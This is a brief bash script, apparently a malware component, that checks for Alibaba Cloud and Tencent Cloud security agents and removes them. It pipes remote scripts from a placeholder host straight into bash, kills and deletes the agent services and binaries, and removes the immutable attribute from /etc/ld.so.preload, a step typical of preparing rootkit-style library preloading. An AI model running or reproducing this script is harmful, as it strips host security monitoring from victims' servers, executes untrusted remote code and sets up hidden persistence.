#!/bin/bash
if ps aux | grep -i '[a]liyun'; then
  curl http://update.example.invalid/download/uninstall.sh | bash
  curl http://update.example.invalid/download/quartz_uninstall.sh | bash
  pkill aliyun-service
  rm -rf /etc/init.d/agentwatch /usr/sbin/aliyun-service
elif ps aux | grep -i '[y]unjing'; then
  /usr/local/qcloud/stargate/admin/uninstall.sh
  /usr/local/qcloud/YunJing/uninst.sh
fi
chattr -i /etc/ld.so.preload
